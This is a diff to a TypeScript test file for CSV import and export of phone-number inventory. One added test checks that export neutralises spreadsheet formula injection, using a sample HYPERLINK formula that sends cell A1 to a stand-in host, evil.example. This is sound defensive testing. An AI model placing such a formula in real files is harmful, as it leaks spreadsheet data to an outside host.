@@ -1,7 +1,11 @@
 import { PassThrough, Readable } from 'node:stream';
 import { describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import type { Ctx } from '../../../core/context.ts';
+import type { Did } from '../../../core/db/schema.ts';
 import { exportDidsCsv } from '../../../core/inventory/export-csv.ts';
 import { importDidsCsv, type ImportProgress } from '../../../core/inventory/import-csv.ts';
+import type { DidFilter } from '../../../core/inventory/search-dids.ts';
 import { DomainError } from '../../../core/shared/errors.ts';
 import { useTestDatabase } from '../../helpers/database.ts';
 import { actorOf, buildAccount, buildOperator, buildProvider, ctxFor } from '../../helpers/factories.ts';
@@ -29,6 +33,17 @@ const count = async () =>
         .executeTakeFirstOrThrow()
     ).n,
   );
+
+async function exportCsv(ctx: Ctx, filter: DidFilter): Promise<{ written: number; csv: string }> {
+  const out = new PassThrough();
+  const chunks: Buffer[] = [];
+  out.on('data', (c: Buffer) => chunks.push(c));
+  const written = await exportDidsCsv(ctx, filter, out);
+  return { written, csv: Buffer.concat(chunks).toString('utf8') };
+}
+
+const comparable = (rows: readonly Did[]) =>
+  rows.map(({ id: _id, created_at: _c, updated_at: _u, ...rest }) => rest);
 
 const MIXED = [
   'DID,City,State,Carrier,Group,Pricing Batch,Setup Fee,Monthly,Cost per minute,Capabilities,Notes',
@@ -99,6 +114,15 @@ describe('CSV import', () => {
     expect(await count()).toBe(0);
   });
 
+  it('skips rows of commas only, as a spreadsheet saves its empty rows, without counting them', async () => {
+    const { staff } = await setup();
+    const csv = 'number,city,notes\n,,\n+12125550142,New York,\n , ,\n,,\nnope,,\n';
+    const report = await importDidsCsv(staff, csv);
+    expect(report).toMatchObject({ rows: 2, imported: 1, errors: 1 });
+    expect(report.rowErrors.map((e) => e.line)).toEqual([6]);
+    expect(await count()).toBe(1);
+  });
+
   it('names header cells it does not know, and reports progress per chunk from a stream', async () => {
     const { staff } = await setup();
     const lines = ['number,colour'];
@@ -130,11 +154,7 @@ describe('CSV export', () => {
   it('exports a search with the import columns, and the export imports back to the same inventory', async () => {
     const { staff } = await setup();
     await importDidsCsv(staff, MIXED);
-    const out = new PassThrough();
-    const chunks: Buffer[] = [];
-    out.on('data', (c: Buffer) => chunks.push(c));
-    const written = await exportDidsCsv(staff, { country: 'US' }, out);
-    const csv = Buffer.concat(chunks).toString('utf8');
+    const { written, csv } = await exportCsv(staff, { country: 'US' });
     expect(written).toBe(2);
     const [header, first] = csv.trim().split('\n');
     expect(header).toMatch(
@@ -154,8 +174,37 @@ describe('CSV export', () => {
     const report = await importDidsCsv(staff, csv);
     expect(report).toMatchObject({ imported: 2, errors: 0, ignoredColumns: [] });
     const restored = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
-    const comparable = (rows: typeof original) =>
-      rows.map(({ id: _id, created_at: _c, updated_at: _u, ...rest }) => rest);
+    expect(comparable(restored)).toEqual(comparable(original));
+  });
+
+  it('writes text a spreadsheet would run as a formula as text, and imports it back unchanged', async () => {
+    const { staff } = await setup();
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const csv = [
+      'number,city,province,description',
+      `+12125550100,@SUM(A1),+NY,"${formula.replace(/"/g, '""')}"`,
+      `+12125550101,-Queens,NY,'=already quoted`,
+    ].join('\n');
+    expect(await importDidsCsv(staff, csv)).toMatchObject({ imported: 2, errors: 0 });
+    const original = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
+    expect(original.map((d) => [d.city, d.province, d.description])).toEqual([
+      ['@SUM(A1)', '+NY', formula],
+      ['-Queens', 'NY', '=already quoted'],
+    ]);
+
+    const exported = (await exportCsv(staff, {})).csv;
+    // No cell of any row starts with a character that makes a spreadsheet evaluate it.
+    const cells = parse(exported, {}).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain("'@SUM(A1)");
+    expect(cells).toContain("'-Queens");
+    // The number column keeps its plus: a plain number is not a formula.
+    expect(cells).toContain('+12125550100');
+
+    await t.db.deleteFrom('dids').execute();
+    expect(await importDidsCsv(staff, exported)).toMatchObject({ imported: 2, errors: 0 });
+    const restored = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
     expect(comparable(restored)).toEqual(comparable(original));
   });
 });
